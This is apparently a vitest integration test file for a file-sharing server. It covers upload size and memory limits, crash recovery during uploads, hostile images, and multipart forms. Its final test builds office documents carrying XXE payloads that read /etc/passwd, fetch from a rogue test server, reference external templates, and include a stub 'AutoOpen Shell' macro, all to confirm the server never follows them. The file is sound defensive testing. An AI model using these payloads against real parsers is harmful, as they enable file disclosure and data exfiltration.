import { subscribe, unsubscribe } from 'node:diagnostics_channel';
import { existsSync, mkdirSync, mkdtempSync, readdirSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { request } from 'node:http';
import type { Socket } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Readable } from 'node:stream';
import { crc32 } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it, onTestFinished } from 'vitest';
import { harmfulPictures, harmfulProfiles } from '../../packages/slices/src/files/testing/hostile-pictures.ts';
import { sessionCookie } from '../harness/browser-pages.ts';
import { startTestNode } from '../harness/node.ts';
import { type NodeProcess, startProcess } from '../harness/process.ts';
import { startRogue } from '../harness/rogue.ts';
import { until } from '../harness/until.ts';
import { uploadFile } from '../harness/upload.ts';
import { openGroup } from './world.ts';

const megabyte = 1_000_000;
/** The limit of the node: the largest there is. */
const most = 1_024;
const large = 128;
const usual = 16;
/** What is announced of an upload of which twice the limit is sent: as much as there may be tells the same, and takes seconds. */
const begun = Number(process.env.JOINERY_UPLOAD_BEGUN ?? 4);

/** Sends pieces of a MB until the node has answered, or hangs up after so many. */
function stream(url: string, headers: Record<string, string>, pieces: number, vanish: boolean): Promise<number> {
  return new Promise((resolve) => {
    const sending = request(url, { method: 'PATCH', headers }, (response) => {
      response.resume();
      resolve(response.statusCode ?? 0);
      sending.destroy();
    });
    sending.on('error', () => resolve(0));
    const piece = Buffer.alloc(megabyte, 'x');
    let sent = 0;
    const next = () => {
      while (sent < pieces) {
        sent += 1;
        if (!sending.write(piece)) return void sending.once('drain', next);
      }
      if (vanish) setImmediate(() => sending.destroy());
      else sending.end();
    };
    next();
  });
}

/** What lies in a folder and below it. */
function bytesUnder(folder: string): number {
  const files = readdirSync(folder, { recursive: true, withFileTypes: true }).filter((entry) => entry.isFile());
  return files.reduce((sum, { parentPath, name }) => sum + statSync(join(parentPath, name)).size, 0);
}

describe.skipIf(process.platform !== 'linux')('A node in a process of its own', () => {
  let files: string;
  let node: NodeProcess;
  let headers: Record<string, string>;
  beforeAll(async () => {
    files = mkdtempSync(join(tmpdir(), 'joinery-uploaded-'));
    node = await startProcess('uploads', { JOINERY_FILE_MEGABYTES: String(most), JOINERY_FILES: files });
    const words = ['person', 'add', '--name', 'Anna Archivist', '--email', 'anna@example.test'];
    const anna = (await node.command(...words)) as { id: string };
    const { token } = (await node.command('token', 'create', '--person', anna.id)) as { token: string };
    headers = { authorization: `Bearer ${token}`, 'tus-resumable': '1.0.0' };
  }, 60_000);
  afterAll(async () => {
    await node?.[Symbol.asyncDispose]();
    rmSync(files, { recursive: true, force: true });
  });

  const begin = (megabytes: number) =>
    fetch(`${node.origin}/api/v1/uploads`, {
      method: 'POST',
      headers: { ...headers, 'upload-length': String(megabytes * megabyte) },
    });
  const next = (offset: number) => ({
    ...{ ...headers, 'content-type': 'application/offset+octet-stream', 'upload-offset': String(offset) },
  });
  const offsetOf = async (address: string) =>
    Number((await fetch(address, { headers })).headers.get('upload-offset') ?? Number.NaN);
  const readAll = async (address: string) => {
    const path = `/api/v1/files/${address.split('/').at(-1)}/content`;
    let bytes = 0;
    for await (const piece of (await fetch(`${node.origin}${path}`, { headers })).body ?? []) bytes += piece.length;
    return bytes;
  };

  it('115: takes no memory for an upload that is larger than it may be, or whose sender vanishes at its end, and keeps nothing but what can be resumed', async () => {
    const tooLarge = await begin(2 * 1024);
    expect(tooLarge.status).toBe(413);
    // What any upload takes at first.
    const small = `${node.origin}${(await begin(usual)).headers.get('location')}`;
    expect(await stream(small, next(0), usual, false)).toBe(204);
    await readAll(small);
    const before = node.peakMemory();
    const more = () => node.peakMemory() - before;
    const grown: number[] = [];

    // 2 GB, without a length and without an end, and with both: nothing is taken beyond what was announced.
    const lengths: Record<string, string>[] = [{}, { 'content-length': String(2 * most * megabyte) }];
    for (const length of lengths) {
      const longer = `${node.origin}${(await begin(begun)).headers.get('location')}`;
      expect([413, 0]).toContain(await stream(longer, { ...next(0), ...length }, 2 * most, false));
      expect((await fetch(longer, { headers })).status).toBe(404);
      expect(readdirSync(join(files, 'incoming'))).toEqual([]);
      grown.push(more());
    }

    // All but the last hundredth of a GB, and nobody is there any more.
    const vanishing = `${node.origin}${(await begin(most)).headers.get('location')}`;
    const nearly = Math.floor(most * 0.99);
    expect(await stream(vanishing, next(0), nearly, true)).toBe(0);
    let offset = 0;
    await until(async () => {
      const now = await offsetOf(vanishing);
      const stands = now > 0 && now === offset;
      offset = now;
      return stands;
    }, 30_000);
    // What its machine had still to send went with it.
    expect(offset).toBeGreaterThan((nearly - 50) * megabyte);
    expect(offset).toBeLessThan(most * megabyte);
    // It goes on where it was, with more than was announced: 2 GB altogether.
    expect([413, 0]).toContain(await stream(vanishing, next(offset), 2 * most - nearly, false));
    expect((await fetch(vanishing, { headers })).status).toBe(404);
    expect(readdirSync(join(files, 'incoming'))).toEqual([]);
    expect(bytesUnder(files)).toBe(usual * megabyte);
    grown.push(more());

    const whole = `${node.origin}${(await begin(large)).headers.get('location')}`;
    expect(await stream(whole, next(0), large - 1, true)).toBe(0);
    await until(async () => (await offsetOf(whole)) > 0, 15_000);
    const from = await offsetOf(whole);
    const rest = new Uint8Array(large * megabyte - from).fill(120);
    const done = await fetch(whole, { method: 'PATCH', headers: next(from), body: rest });
    expect(done.status).toBe(204);
    expect(await readAll(whole)).toBe(large * megabyte);
    grown.push(more());
    process.stdout.write(
      `Uploads: memory grew by ${grown.map((bytes) => Math.round(bytes / megabyte)).join(', ')} MB\n`,
    );
    // Of more than three GB that went in and out; what has been read waits for a while to be collected.
    expect(grown.at(-1)).toBeLessThan(128 * megabyte);
  }, 240_000);

  it('115: ended in the midst of an upload, it goes on with it, and nothing else is left', async () => {
    const cut = `${node.origin}${(await begin(usual)).headers.get('location')}`;
    const id = cut.split('/').at(-1) ?? '';
    const arriving = join(files, 'incoming', id);
    const sending = request(cut, { method: 'PATCH', headers: next(0) });
    const broken = new Promise((resolve) => sending.on('error', resolve));
    sending.write(Buffer.alloc(4 * megabyte, 'x'));
    await until(() => existsSync(arriving) && statSync(arriving).size > megabyte, 15_000);
    await node.kill();
    await broken;
    expect(readdirSync(join(files, 'incoming'))).toEqual([id]);
    await node.restart();
    // Of what was never acknowledged nothing counts.
    expect(await offsetOf(cut)).toBe(0);
    expect(await stream(cut, next(0), usual, false)).toBe(204);
    expect(readdirSync(join(files, 'incoming'))).toEqual([]);
    expect(await readAll(cut)).toBe(usual * megabyte);
  }, 60_000);

  it('113: shows no picture that would harm who looks at it, and takes neither time nor memory to see that', async () => {
    const bring = async (name: string, content: Buffer) => {
      const began = performance.now();
      const id = await uploadFile(node, { token: String(headers.authorization).split(' ')[1] ?? '' }, name, content);
      expect([name, performance.now() - began < 15_000]).toEqual([name, true]);
      const answer = await fetch(`${node.origin}/api/v1/files/${id}/content`, { headers });
      const kept = Buffer.from(await answer.arrayBuffer());
      const disposition = answer.headers.get('content-disposition')?.split(';')[0];
      return { kept, said: [name, answer.headers.get('content-type'), disposition] };
    };
    // What any file of that size takes at first.
    await bring('plain.bin', Buffer.alloc(32 * megabyte, 'x'));
    const before = node.peakMemory();
    for (const [name, content] of harmfulPictures()) {
      const { kept, said } = await bring(name, content);
      expect(said).toEqual([name, 'application/octet-stream', 'attachment']);
      expect([name, kept.equals(content)]).toEqual([name, true]);
    }
    for (const [name, content, clean] of harmfulProfiles()) {
      const { kept, said } = await bring(name, content);
      expect(said).toEqual([name, expect.stringMatching(/^image\//), 'inline']);
      expect([name, kept.equals(clean)]).toEqual([name, true]);
    }
    process.stdout.write(`Pictures: memory grew by ${Math.round((node.peakMemory() - before) / megabyte)} MB\n`);
    // All of them together, what waits to be collected included: drawn, one of them alone would take gigabytes.
    expect(node.peakMemory() - before).toBeLessThan(160 * megabyte);
  }, 120_000);
});

it('115: a form without a length brings no more files than one may be large, and what an ended process left of one goes by itself', async () => {
  const files = mkdtempSync(join(tmpdir(), 'joinery-forms-'));
  onTestFinished(() => rmSync(files, { recursive: true, force: true }));
  const incoming = join(files, 'incoming');
  mkdirSync(incoming, { recursive: true });
  writeFileSync(join(incoming, 'left'), 'of a form');
  let ahead = 0;
  await using node = await startTestNode('forms', {
    clock: { now: () => new Date(Date.now() + ahead) },
    environment: { JOINERY_FILE_MEGABYTES: '2', JOINERY_FILES: files },
  });
  const anna = await node.person('Anna Archivist');
  const group = await openGroup(node, anna, 'forms');
  const session = await sessionCookie(node.context, anna.account);
  const cookie = `${session.name}=${session.value}`;
  const page = await (await fetch(`${node.origin}/groups/${group.id}/new`, { headers: { cookie } })).text();
  const csrf = /name="csrf" value="([^"]+)"/.exec(page)?.[1] ?? '';
  const send = (count: number, bytes: number) => {
    const part = (name: string, content: string) =>
      Buffer.from(`--b\r\ncontent-disposition: form-data; name="${name}"\r\n\r\n${content}\r\n`);
    const file = (number: number) =>
      Buffer.concat([
        Buffer.from(`--b\r\ncontent-disposition: form-data; name="files"; filename="${number}.bin"\r\n\r\n`),
        Buffer.alloc(bytes, number),
        Buffer.from('\r\n'),
      ]);
    const fields = Object.entries({ csrf, title: 'Figures', content: 'As asked', language: 'en', altAsked: '1' });
    async function* parts() {
      for (const [name, content] of fields) yield part(name, content);
      for (let number = 0; number < count; number += 1) yield file(number);
      yield Buffer.from('--b--\r\n');
    }
    return fetch(`${node.origin}/groups/${group.id}/new`, {
      method: 'POST',
      headers: { cookie, origin: node.origin, accept: 'text/html', 'content-type': 'multipart/form-data; boundary=b' },
      body: Readable.toWeb(Readable.from(parts())),
      duplex: 'half',
      redirect: 'manual',
    } as RequestInit);
  };
  const kept = async () => (await node.context.db.reader.selectFrom('files_file').select('id').execute()).length;
  const refused = await send(8, 1.5 * megabyte);
  const text = await refused.text();
  expect([refused.status, text.includes('As asked'), /together/.test(text), await kept()]).toEqual([
    422,
    true,
    true,
    0,
  ]);
  expect(readdirSync(incoming)).toEqual(['left']);
  expect((await send(3, 0.6 * megabyte)).status).toBe(303);
  expect([await kept(), readdirSync(incoming)]).toEqual([3, ['left']]);
  await node.settle();
  ahead = 27 * 3_600_000;
  await until(async () => {
    await node.settle();
    return readdirSync(incoming).length === 0;
  }, 15_000);
});

/** A zip of entries that are not packed (APPNOTE 6.3, 4.3). */
function zipOf(entries: Record<string, string>): Buffer {
  const parts: Buffer[] = [];
  const directory: Buffer[] = [];
  let at = 0;
  for (const [name, text] of Object.entries(entries)) {
    const [path, content] = [Buffer.from(name), Buffer.from(text)];
    const common = Buffer.alloc(26);
    common.writeUInt16LE(20, 0);
    common.writeUInt32LE(crc32(content), 10);
    common.writeUInt32LE(content.length, 14);
    common.writeUInt32LE(content.length, 18);
    common.writeUInt16LE(path.length, 22);
    const place = Buffer.alloc(14);
    place.writeUInt32LE(at, 10);
    parts.push(Buffer.from('PK\x03\x04', 'latin1'), common, path, content);
    directory.push(Buffer.from('PK\x01\x02\x14\0', 'latin1'), common, place, path);
    at += 30 + path.length + content.length;
  }
  const end = Buffer.alloc(18);
  end.writeUInt16LE(parts.length / 4, 4);
  end.writeUInt16LE(parts.length / 4, 6);
  end.writeUInt32LE(Buffer.concat(directory).length, 8);
  end.writeUInt32LE(at, 12);
  return Buffer.concat([...parts, ...directory, Buffer.from('PK\x05\x06', 'latin1'), end]);
}

it('112: what an office document names elsewhere is never asked for, and it is given back as it came', async () => {
  await using elsewhere = await startRogue();
  await using node = await startTestNode('offices');
  const anna = await node.person('Anna Archivist');
  const group = await openGroup(node, anna, 'offices');
  const far = `${elsewhere.origin}/taken`;
  const entity = `<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd"><!ENTITY % b SYSTEM "${far}"> %b;]>`;
  const xml = (inside: string) => `<?xml version="1.0"?>${entity}<x>&a;${inside}</x>`;
  const relations = xml(`<Relationship TargetMode="External" Type="attachedTemplate" Target="${far}"/>`);
  const types = (kind: string) =>
    `<?xml version="1.0"?>${entity}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/part.xml" ContentType="application/vnd.${kind}.main+xml"/></Types>`;
  const openDocument = 'application/vnd.oasis.opendocument.text';
  const documents: [name: string, content: Buffer][] = [
    ...[
      ['docx', 'openxmlformats-officedocument.wordprocessingml.document'],
      ['docm', 'ms-word.document.macroEnabled'],
      ['xlsx', 'openxmlformats-officedocument.spreadsheetml.sheet'],
    ].map(([end, kind = '']): [string, Buffer] => [
      `figures.${end}`,
      zipOf({
        ...{ '[Content_Types].xml': types(kind), '_rels/.rels': relations, 'part.xml': xml('figures') },
        ...{ 'word/_rels/settings.xml.rels': relations, 'word/vbaProject.bin': 'AutoOpen Shell "curl"' },
      }),
    ]),
    [
      'figures.odt',
      zipOf({
        ...{ mimetype: openDocument, 'META-INF/manifest.xml': xml(''), 'content.xml': xml('figures') },
        ...{ 'settings.xml': xml(`<script:event-listener xlink:href="${far}"/>`) },
      }),
    ],
    ['figures.xml', Buffer.from(xml('figures'))],
  ];
  const opened: string[] = [];
  const noteSocket = (message: unknown) => {
    const { socket } = message as { socket: Socket };
    socket.once('connect', () => opened.push(`${socket.remotePort}`));
  };
  const noteProcess = () => opened.push('a process');
  subscribe('net.client.socket', noteSocket);
  subscribe('child_process', noteProcess);
  try {
    const session = await sessionCookie(node.context, anna.account);
    const headers = { cookie: `${session.name}=${session.value}`, accept: 'text/html' };
    for (const [name, content] of documents) {
      const id = await uploadFile(node, anna, name, content);
      const added = { file: id, title: name };
      const document = await anna.api('POST', `/groups/${group.id}/library/documents`, added);
      expect([name, document.status]).toEqual([name, 201]);
      for (const path of [`/files/${id}/view`, `/documents/${document.body.id}`, '/search?q=figures'])
        expect([path, (await (await fetch(`${node.origin}${path}`, { headers })).text()).includes('root:')]).toEqual([
          path,
          false,
        ]);
      const answer = await fetch(`${node.origin}/files/${id}`, { headers });
      const disposition = answer.headers.get('content-disposition')?.split(';')[0];
      expect([name, disposition, Buffer.from(await answer.arrayBuffer()).equals(content)]).toEqual([
        ...[name, 'attachment', true],
      ]);
    }
    await node.settle();
  } finally {
    unsubscribe('net.client.socket', noteSocket);
    unsubscribe('child_process', noteProcess);
  }
  // What the test itself opened is all there is.
  expect(opened.length).toBeGreaterThan(0);
  expect(opened.filter((port) => port !== String(node.port))).toEqual([]);
  expect(elsewhere.requests).toEqual([]);
});
